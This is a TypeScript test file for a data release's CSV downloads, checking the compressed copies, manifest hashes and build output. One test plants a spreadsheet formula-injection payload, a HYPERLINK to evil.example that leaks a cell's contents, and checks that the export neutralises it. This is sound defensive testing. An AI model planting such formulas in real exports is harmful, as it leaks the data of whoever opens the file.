// The release's downloads: every collection as a whole-table CSV, safe to open in a spreadsheet, with
// precompressed copies that decode to the same bytes and a manifest that tells the truth about them.
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { brotliDecompressSync, gunzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../src/loader/csv.js';
import { loadDataset } from '../src/loader/load.js';
import { releaseFiles } from '../src/release-files/index.js';
import type { Dataset } from '../src/schemas/index.js';
import { writeDownloads } from './downloads.js';
import { DATA_DIR, DIST_DIR } from './paths.js';

const dataset = loadDataset(DATA_DIR).dataset as Dataset;
const dir = join(mkdtempSync(join(tmpdir(), 'mt0-downloads-')), 'downloads');
const files = writeDownloads(await releaseFiles(dataset), dir);

describe('writeDownloads()', () => {
  it('writes one CSV per collection and the places, every record of every grade, and their data package', () => {
    expect(files.map((f) => f.name)).toEqual([
      'indicators.csv',
      'sources.csv',
      'observations.csv',
      'changes.csv',
      'statements.csv',
      'events.csv',
      'places.csv',
      'datapackage.json',
    ]);
    const obs = parseCsv(readFileSync(join(dir, 'observations.csv'), 'utf8'));
    // Grade C records included: the download is the whole table, not the API's A,B default.
    expect(obs.rows.length).toBe(dataset.observations.length);
    expect(obs.rows.some((r) => r.cells.confidence === 'C')).toBe(
      dataset.observations.some((o) => o.confidence === 'C'),
    );
  });

  it('records the size and sha256 of each file, and .br and .gz copies that decode to it', () => {
    for (const f of files) {
      const bytes = readFileSync(join(dir, f.name));
      expect(f.bytes).toBe(bytes.length);
      expect(f.sha256).toBe(createHash('sha256').update(bytes).digest('hex'));
      const br = readFileSync(join(dir, `${f.name}.br`));
      const gz = readFileSync(join(dir, `${f.name}.gz`));
      expect([f.encodings.br, f.encodings.gzip]).toEqual([br.length, gz.length]);
      expect(brotliDecompressSync(br).equals(bytes)).toBe(true);
      expect(gunzipSync(gz).equals(bytes)).toBe(true);
      expect(br.length).toBeLessThan(bytes.length);
    }
  });

  it('neutralises a formula planted in the data, and keeps negative numbers as numbers', async () => {
    const o = dataset.observations[0] as Dataset['observations'][number];
    const planted: Dataset = {
      ...dataset,
      observations: [{ ...o, quote: '=HYPERLINK("https://evil.example/?leak="&A2,"x")', value: -5 }],
    };
    const out = join(mkdtempSync(join(tmpdir(), 'mt0-downloads-')), 'd');
    writeDownloads(
      (await releaseFiles(planted)).filter((d) => d.name === 'observations.csv'),
      out,
    );
    const row = parseCsv(readFileSync(join(out, 'observations.csv'), 'utf8')).rows[0];
    expect(row?.cells.quote).toBe(`'=HYPERLINK("https://evil.example/?leak="&A2,"x")`);
    expect(row?.cells.value).toBe('-5');
  });

  it('is what the build wrote to dist/downloads (the manifest the API serves by)', async () => {
    const built = (await import(join(DIST_DIR, 'downloads.js'))) as {
      downloads: typeof files;
      release: string;
    };
    expect(built.release).toBe(dataset.meta.version);
    expect(built.downloads).toEqual(files);
  });
});
